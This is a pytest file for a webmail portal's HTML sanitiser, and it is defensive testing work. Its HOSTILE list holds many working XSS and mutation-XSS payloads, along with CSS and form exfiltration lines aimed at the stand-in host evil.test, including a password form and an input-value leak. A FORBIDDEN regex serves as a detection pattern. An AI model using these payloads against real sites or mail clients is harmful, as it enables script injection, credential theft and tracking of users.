# ruff: noqa: E501  (one attack a line)
"""What stays of the HTML of a mail: ordinary letters look as they should, attacks leave nothing."""

import re
import time

import pytest

from sealgate_portal.sanitise import MOST_ELEMENTS, TooMuch, as_text, linkify, sanitise
from sealgate_portal.styles import safe_style

FORBIDDEN = re.compile(
    r"<(?:script|style|link|meta|base|form|input|button|textarea|select|iframe|object|embed|svg|math|video|audio|template"
    r"|noscript|frame|isindex|body|html|head|title|marquee|plaintext|xmp)\b|\son\w+\s*=|\ssrcset|\sid=|\sname=|\sclass=|"
    r"\saction=|\sformaction|\sbackground=|\sping=|\sslot=|\sis=|url\s*\(|expression|@import|position\s*:|javascript:|vbscript:"
    r"|\ssrc=\"(?!/p/)|data:", re.IGNORECASE)

HOSTILE = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext></p><img src=x onerror=alert(1)></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><img src=x onerror=alert(1)></template>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<xmp><img src=x onerror=alert(1)></xmp>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)>", "<object data=//evil.test/x>",
    "<embed src=//evil.test/x>", "<a href=javascript:alert(1)>x</a>", "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:x>x</a>", "<a href='//evil.test'>x</a>", "<a href='/sign-out'>x</a>", "<a href='#top'>x</a>",
    "<base href=//evil.test/>", "<meta http-equiv=refresh content='0;url=//evil.test'>", "<link rel=stylesheet href=//evil.test>",
    "<style>@import '//evil.test/x.css';</style>", "<style>input[value^=a]{background:url(//evil.test)}</style>",
    "<p style='background:url(//evil.test/x)'>x</p>", "<p style='background-image:u\\72l(//evil.test)'>x</p>",
    "<p style='list-style:url(//evil.test)'>x</p>", "<p style='content:url(//evil.test)'>x</p>",
    "<p style='color:red;behavior:url(x.htc)'>x</p>", "<p style='width:expression(alert(1))'>x</p>",
    "<p style='cursor:url(//evil.test),auto'>x</p>", "<p style='background:#fff url(//evil.test)'>x</p>",
    "<p style='background-color:image-set(\"//evil.test\" 1x)'>x</p>", "<p style='color:var(--x)'>x</p>",
    "<p style='font-family:\"a;background:url(//evil.test)\"'>x</p>", "<p style='color:red/**/;background:url(//evil.test)'>x</p>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>Sign in</div>",
    "<div style='margin-top:-900px'>x</div>", "<img srcset='//evil.test/x 2x'>", "<img src=//evil.test/x.gif>",
    "<img src='http://evil.test/pixel.gif' width=1 height=1>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html,x'>", "<img src='cid:unknown'>", "<img src=' CID:known'>", "<img lowsrc=//evil.test dynsrc=//evil.test>",
    "<picture><source srcset=//evil.test/x><img src=//evil.test/y></picture>", "<video poster=//evil.test src=//evil.test></video>",
    "<audio src=//evil.test autoplay></audio>", "<table background=//evil.test/x><td background=//evil.test/x>x</table>",
    "<body background=//evil.test onload=alert(1)>", "<form action=//evil.test><input name=password><button>Go</button></form>",
    "<input type=image src=//evil.test>", "<isindex action=//evil.test>", "<button formaction=javascript:alert(1)>x</button>",
    "<a ping=//evil.test href=https://ok.test>x</a>", "<p id=main name=csrf class=card>x</p>", "<x-y is=z slot=a>x</x-y>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>", "<select><style></select><img src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>", "<details open ontoggle=alert(1)>x</details>", "<plaintext><img src=x onerror=alert(1)>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>", "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a href=\"https://ok.test\" target=_top onclick=alert(1)>x</a>", "<font color='red;x:url(//evil.test)'>x</font>",
]


def picture(content_id: str) -> str | None:
    return "/p/1" if content_id == "known" else None


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_leaves_nothing(html):
    clean = sanitise(f"<div>before {html} after</div>", picture).html
    outside_text = re.sub(r">[^<]*<", "><", f">{clean}<")
    assert not FORBIDDEN.search(outside_text), clean
    assert "before" in clean
    added = re.compile(r' (?:src|rel|target)="[^"]*"')
    assert added.sub("", sanitise(clean, picture).html) == added.sub("", clean), "a second pass finds nothing more"


def test_hostile_fragments_in_pairs_and_cut_off():
    for first in HOSTILE:
        for second in HOSTILE[::7]:
            clean = sanitise(first[: len(first) * 2 // 3] + second, picture).html
            assert not FORBIDDEN.search(re.sub(r">[^<]*<", "><", f">{clean}<")), (first, second, clean)


def test_ordinary_letters_look_as_they_should():
    html = ('<table width="600" cellpadding="4" bgcolor="#eeeeee"><tr><td align="center" style="padding:8px 4px;color:#333;'
            'font:x;background:#fff;border:1px solid #ccc;font-family:\'Segoe UI\',Arial">Dear <b>Bob</b></td></tr></table>'
            '<p dir="rtl" lang="ar">x</p><a href="https://ok.test/?a=1&amp;b=2">link</a><img src="cid:known" alt="Plan" width="20">')
    clean = sanitise(html, picture)
    for kept in ('bgcolor="#eeeeee"', 'width="600"', "padding:8px 4px", "color:#333", "border:1px solid #ccc", "segoe ui,arial",
                 "background-color:#fff", 'dir="rtl"', 'href="https://ok.test/?a=1&amp;b=2"', 'src="/p/1"', 'alt="Plan"',
                 'target="_blank"', 'rel="noopener noreferrer"'):
        assert kept in clean.html, kept
    assert clean.blocked == 0
    assert clean.shown == {"known"}
    assert sanitise("<img src=http://a.test/1.png><img src=https://a.test/2.png>", picture).blocked == 2


def test_time_and_size_are_bounded():
    begin = time.process_time()
    sanitise("<div>" * (MOST_ELEMENTS - 10), picture)
    assert time.process_time() - begin < 5
    for html in ("<div>" * (MOST_ELEMENTS + 1), "a" * 5_000_000):
        with pytest.raises(TooMuch):
            sanitise(html, picture)
    begin = time.process_time()
    for text in ("http://" * 100_000, "www." * 200_000, "http://a" + ")" * 500_000, "<" * 500_000):
        linkify(text)
    assert time.process_time() - begin < 5


def test_links_in_plain_text():
    assert linkify("See https://a.test/x(1), or www.b.test. <c>&") == (
        'See <a href="https://a.test/x(1)" target="_blank" rel="noopener noreferrer">https://a.test/x(1)</a>, or '
        '<a href="https://www.b.test" target="_blank" rel="noopener noreferrer">www.b.test</a>. &lt;c&gt;&amp;')
    assert "href" not in linkify('javascript:alert(1) data:text/html,x "onmouseover=x')


def test_text_of_html():
    assert as_text("<p>One &lt;b&gt;<br>two</p><style>x{}</style><script>y</script><p>three</p>") == "One <b>\ntwo\nthree"


@pytest.mark.parametrize(("style", "kept"), [
    ("COLOR: Red !important", "color:red"), ("width:50%;height:10px", "width:50%;height:10px"), ("margin:-5px", ""),
    ("color:rgb(1, 2, 3)", "color:rgb(1, 2, 3)"), ("color:rgb(url(x))", ""), ("display:flex", ""), ("display:none", "display:none"),
    ("color:red;" * 500, ""), ("colo\\r:red", ""), ("--x:red", ""), ("color:\uff52ed", ""), (";;:;a", ""), ("color", ""),
])
def test_styles(style, kept):
    assert safe_style(style) == kept
